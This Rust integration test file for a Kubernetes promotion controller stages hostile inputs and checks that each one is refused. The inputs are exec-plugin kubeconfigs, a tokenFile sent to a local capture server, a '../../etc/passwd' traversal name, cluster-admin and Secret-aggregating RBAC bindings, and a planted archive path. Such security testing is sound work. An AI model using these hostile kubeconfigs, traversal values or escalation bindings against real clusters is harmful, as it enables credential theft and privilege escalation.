//! Issue 10: the controller's input read as an attacker writes it. Everyone who may write a
//! Kosmos `Cluster`, a PromotePolicy (or its status), or RBAC in a member cluster tries to take
//! the controller's rights; each test runs the attack against real clusters and a real
//! `kpromote controller` process and checks it fails, and that no credential or Secret value
//! reaches status, Events, logs or metrics.
#![allow(clippy::unwrap_used)]

mod controller_env;
mod support;

use k8s_openapi::api::core::v1::{Secret, ServiceAccount};
use k8s_openapi::api::rbac::v1::ClusterRoleBinding;
use kpromote_core::kosmos::cluster::{Cluster, ClusterSpec};
use kpromote_core::policy::Phase;
use kube::Api;
use kube::api::{Patch, PatchParams, PostParams};
use serde_json::json;

use controller_env::{ControllerProcess, DESIGN_POLICY, DESIGN_POLICY_NAME, Env};

/// A value that must never be printed: a Secret's value, a token.
const MARKER: &str = "kpromote-hostile-marker-7d3e1a";

async fn register(env: &Env, name: &str, kubeconfig: &str) {
    Api::<Cluster>::all(env.cp.clone())
        .create(
            &PostParams::default(),
            &Cluster::new(
                name,
                ClusterSpec {
                    kubeconfig: Some(k8s_openapi::ByteString(kubeconfig.as_bytes().to_vec())),
                },
            ),
        )
        .await
        .unwrap();
}

fn kubeconfig(server: &str, user: &str, cluster_extra: &str) -> String {
    format!(
        "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: {server}\n{cluster_extra}\
         users:\n- name: evil\n  user:\n{user}\ncontexts:\n- name: x\n  context:\n    cluster: c\n    user: evil\n\
         current-context: x\n"
    )
}

fn policy(name: &str, cluster: &str) -> String {
    serde_json::to_string(&json!({
        "apiVersion": "kosmos.io/v1alpha1", "kind": "PromotePolicy",
        "metadata": { "name": name },
        "spec": { "includedNamespaces": ["nginx-test"], "clusterName": cluster },
    }))
    .unwrap()
}

/// Everything the controller wrote where people and tools read: every policy's status, the
/// Events of the control plane, its log, its metrics.
async fn controller_outputs(env: &Env, controller: &ControllerProcess) -> String {
    let policies = env.kubectl_cp(&["get", "promotepolicies", "-o", "json"]);
    let events = env.kubectl_cp(&["get", "events", "-A", "-o", "json"]);
    let metrics = controller
        .http_get("/metrics")
        .await
        .map(|(_, body)| body)
        .unwrap_or_default();
    format!(
        "{}\n{}\n{}\n{metrics}",
        String::from_utf8_lossy(&policies.stdout),
        String::from_utf8_lossy(&events.stdout),
        controller.log()
    )
}

fn assert_absent(haystack: &str, needles: &[&str]) {
    for needle in needles {
        assert!(
            !haystack.contains(needle),
            "{needle:?} leaked into the controller's outputs:\n{}",
            haystack
                .lines()
                .filter(|l| l.contains(needle))
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
}

/// Attack 1: a `Cluster` kubeconfig that runs a command in the controller's pod, and one that
/// reads the controller's own files (its service-account token) and sends them to a server of
/// the attacker's. Attack 5: policy fields the API server should have refused.
#[tokio::test]
async fn cluster_kubeconfigs_that_run_commands_or_read_files_are_refused() {
    let env = Env::start().await;
    let scratch = tempfile::tempdir().unwrap();

    // exec: the command would leave a file behind (and print a credential, as plugins do).
    let ran = scratch.path().join("exec-ran");
    let plugin = scratch.path().join("plugin.sh");
    std::fs::write(
        &plugin,
        format!(
            "#!/bin/sh\ntouch {}\necho '{{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\
             \"status\":{{\"token\":\"{MARKER}\"}}}}'\n",
            ran.display()
        ),
    )
    .unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&plugin, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let exec_user = format!(
        "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: {}\n      interactiveMode: Never",
        plugin.display()
    );
    let member_server = env
        .env
        .cluster("member")
        .kubeconfig_yaml()
        .lines()
        .find_map(|l| l.trim().strip_prefix("server: "))
        .unwrap()
        .to_owned();
    register(
        &env,
        "evil-exec",
        &kubeconfig(&member_server, &exec_user, "    insecure-skip-tls-verify: true\n"),
    )
    .await;

    // tokenFile: the controller's own file (here a stand-in for its service-account token),
    // sent as a bearer token to a plain-HTTP server that records what it receives.
    let token_file = scratch.path().join("token");
    std::fs::write(&token_file, MARKER).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
    let sink = received.clone();
    let server = tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        loop {
            let Ok((mut stream, _)) = listener.accept().await else {
                return;
            };
            let mut buf = vec![0u8; 8192];
            let n = stream.read(&mut buf).await.unwrap_or(0);
            sink.lock().unwrap().extend_from_slice(&buf[..n]);
            let _ = stream
                .write_all(b"HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
                .await;
        }
    });
    register(
        &env,
        "evil-token-file",
        &kubeconfig(
            &format!("http://127.0.0.1:{port}"),
            &format!("    tokenFile: {}", token_file.display()),
            "",
        ),
    )
    .await;

    // Certificate and key paths: files of the controller's.
    register(
        &env,
        "evil-paths",
        &kubeconfig(
            &member_server,
            &format!(
                "    client-certificate: {0}\n    client-key: {0}",
                token_file.display()
            ),
            &format!("    certificate-authority: {}\n", token_file.display()),
        ),
    )
    .await;

    let controller = env.controller("hostile-kubeconfig", &[], &[]);
    let cases = [
        (
            "via-exec",
            "evil-exec",
            vec!["users[evil].exec runs a command", "--allow-kubeconfig-exec"],
        ),
        (
            "via-token-file",
            "evil-token-file",
            vec!["users[evil].tokenFile is a file path"],
        ),
        (
            "via-paths",
            "evil-paths",
            vec![
                "users[evil].client-certificate is a file path",
                "users[evil].client-key is a file path",
                "clusters[c].certificate-authority is a file path",
            ],
        ),
    ];
    for (name, cluster, _) in &cases {
        env.apply(&policy(name, cluster));
    }
    let mut failed = Vec::new();
    for (name, _, _) in &cases {
        failed.push(env.wait_for(&controller, name, Phase::FailedPrecheck, 60).await);
    }
    // What the attacks did comes first: the messages matter only once they did nothing.
    assert!(!ran.exists(), "the exec command ran inside the controller");
    let seen = String::from_utf8_lossy(&received.lock().unwrap()).into_owned();
    assert!(
        !seen.contains(MARKER),
        "the controller sent its own file to the attacker's server:\n{seen}"
    );
    for ((_, cluster, needles), policy) in cases.iter().zip(failed) {
        let errors = policy.status.unwrap().precheck_errors.join("\n");
        assert!(errors.contains(&format!("Cluster/{cluster}")), "{errors}");
        assert!(errors.contains("kubeconfig refused"), "{errors}");
        for needle in needles {
            assert!(errors.contains(needle), "{needle:?} missing from:\n{errors}");
        }
    }
    server.abort();
    let outputs = controller_outputs(&env, &controller).await;
    assert_absent(&outputs, &[MARKER, &token_file.display().to_string()]);

    // Attack 5: names that are no object name, and unbounded lists, never reach the controller.
    for (what, spec) in [
        (
            "clusterName",
            json!({ "includedNamespaces": ["nginx-test"], "clusterName": "../../etc/passwd" }),
        ),
        (
            "includedNamespaces",
            json!({ "includedNamespaces": (0..101).map(|i| format!("ns-{i}")).collect::<Vec<_>>(), "clusterName": "member" }),
        ),
        (
            "excludedNamespaceScopedResources",
            json!({ "includedNamespaces": ["nginx-test"], "clusterName": "member",
                    "excludedNamespaceScopedResources": (0..101).map(|i| format!("r{i}")).collect::<Vec<_>>() }),
        ),
    ] {
        let file = scratch.path().join(format!("{what}.json"));
        let body = json!({ "apiVersion": "kosmos.io/v1alpha1", "kind": "PromotePolicy",
                           "metadata": { "name": format!("bad-{}", what.to_lowercase()) }, "spec": spec });
        std::fs::write(&file, body.to_string()).unwrap();
        let out = env.kubectl_cp(&["apply", "-f", &file.display().to_string()]);
        assert!(!out.status.success(), "{what}: the API server accepted {body}");
        let refusal = String::from_utf8_lossy(&out.stderr);
        assert!(refusal.contains(what), "{what}: {refusal}");
    }
}

/// Attack 2: a member admin binds cluster-admin to a promoted ServiceAccount. Attack 3: a
/// Secret's value and the member's token must not appear in anything the controller writes.
/// Attack 5: a status whose `backedupFile` someone else pointed outside the backup directory.
#[tokio::test]
async fn escalating_bindings_need_the_policys_consent_and_nothing_leaks_secrets() {
    let env = Env::start().await;
    // A Secret in the promoted namespace, whose value is the marker.
    Api::<Secret>::namespaced(env.member.clone(), "nginx-test")
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({
                "metadata": { "name": "creds", "annotations": { "note": "holds the marker" } },
                "stringData": { "password": MARKER },
            }))
            .unwrap(),
        )
        .await
        .unwrap();
    // A promoted ServiceAccount bound to cluster-admin in the member.
    Api::<ServiceAccount>::namespaced(env.member.clone(), "nginx-test")
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({ "metadata": { "name": "builder" } })).unwrap(),
        )
        .await
        .unwrap();
    Api::<ClusterRoleBinding>::all(env.member.clone())
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({
                "metadata": { "name": "builder-admin" },
                "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin" },
                "subjects": [{ "kind": "ServiceAccount", "namespace": "nginx-test", "name": "builder" }],
            }))
            .unwrap(),
        )
        .await
        .unwrap();

    // A ClusterRole that, created in the control plane, would join its `view` role (everyone's
    // read access would include Secrets), referred to by a RoleBinding of the namespace.
    for object in [
        json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                "metadata": { "name": "sneaky", "labels": { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
                "rules": [{ "apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"] }] }),
        json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                "metadata": { "name": "sneaky", "namespace": "nginx-test" },
                "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "sneaky" },
                "subjects": [{ "kind": "ServiceAccount", "namespace": "nginx-test", "name": "builder" }] }),
    ] {
        support::apps::create(&env.member, object).await;
    }
    let consent = "spec:\n  allowEscalatingBindings:\n    - builder-admin\n    - nginx-test/sneaky\n";

    let controller = env.controller("hostile-rbac", &[], &[]);
    let failed = env.apply_design(&controller, Phase::FailedPrecheck, 60).await;
    let errors = failed.status.unwrap().precheck_errors;
    assert!(
        errors
            .iter()
            .any(|e| e.contains("ClusterRoleBinding builder-admin")
                && e.contains("is cluster-admin")
                && e.contains("allowEscalatingBindings")),
        "{errors:#?}"
    );
    assert!(
        errors
            .iter()
            .any(|e| e.contains("RoleBinding nginx-test/sneaky") && e.contains("aggregate-to-view")),
        "{errors:#?}"
    );
    let crbs: Api<ClusterRoleBinding> = Api::all(env.cp.clone());
    assert!(crbs.get_opt("builder-admin").await.unwrap().is_none());

    // The policy consents by name: it runs, and the binding is granted in the control plane.
    env.apply(&DESIGN_POLICY.replacen("spec:\n", consent, 1));
    let done = env.wait_design(&controller, Phase::Completed, 120).await;
    assert!(crbs.get_opt("builder-admin").await.unwrap().is_some());
    let described = env.kubectl_cp(&["describe", "promotepolicy", DESIGN_POLICY_NAME]);
    let described = String::from_utf8_lossy(&described.stdout).into_owned();
    assert!(
        described.contains("Allow Escalating Bindings") && described.contains("builder-admin"),
        "{described}"
    );
    // The Secret moved, with its value.
    let secret = Api::<Secret>::namespaced(env.cp.clone(), "nginx-test")
        .get("creds")
        .await
        .unwrap();
    assert_eq!(secret.data.unwrap()["password"].0, MARKER.as_bytes());

    // Someone else points backedupFile at an archive outside the backup directory (here a
    // copy of the real one), then asks for a rollback: the controller refuses to open it.
    let archive = done.status.unwrap().backedup_file.unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let planted = elsewhere.path().join("planted.tar.zst");
    std::fs::copy(&archive, &planted).unwrap();
    env.policies()
        .patch_status(
            DESIGN_POLICY_NAME,
            &PatchParams::default(),
            &Patch::Merge(json!({ "status": { "backedupFile": planted.display().to_string() } })),
        )
        .await
        .unwrap();
    env.apply(&controller_env::design_rollback_policy().replacen("spec:\n", consent, 1));
    let stranded = env.wait_design(&controller, Phase::FailedRollback, 60).await;
    let reason = stranded.status.unwrap().failure_reason.unwrap();
    assert!(
        reason.contains("is not in the backup directory") && reason.contains(&planted.display().to_string()),
        "{reason}"
    );

    // Nothing the controller wrote holds the Secret's value or the member's token.
    let member_token = env
        .env
        .cluster("member")
        .kubeconfig_yaml()
        .lines()
        .find_map(|l| l.trim().strip_prefix("token: "))
        .unwrap()
        .to_owned();
    let outputs = controller_outputs(&env, &controller).await;
    assert!(outputs.contains("builder-admin"), "the outputs were collected");
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(MARKER);
    assert_absent(&outputs, &[MARKER, &encoded, &member_token]);
}
